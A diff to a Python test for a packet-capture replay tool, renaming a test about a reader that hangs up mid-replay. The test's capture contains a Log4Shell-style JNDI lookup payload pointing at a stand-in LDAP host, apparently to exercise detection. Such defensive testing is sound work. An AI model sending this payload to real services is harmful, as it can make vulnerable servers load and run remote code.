@@ -52,7 +52,7 @@ def test_a_capture_that_only_another_user_may_read_is_refused_with_the_way_out(t
     assert f"cannot read {file}: permission denied; root gives up its privileges to replay" in done.stderr
 
 
-def test_a_reader_that_hangs_up_ends_the_replay_quietly(tmp_path: Path) -> None:
+def test_a_reader_that_hangs_up_ends_the_replay_quietly_though_the_model_still_loads(tmp_path: Path) -> None:
     capture = pcap_file(tmp_path / "a.pcap", conversation(b"GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n\r\n"))
     words = [sys.executable, "-m", "aegis_tui", "replay", str(capture), "--headless", "--json"]
     with subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
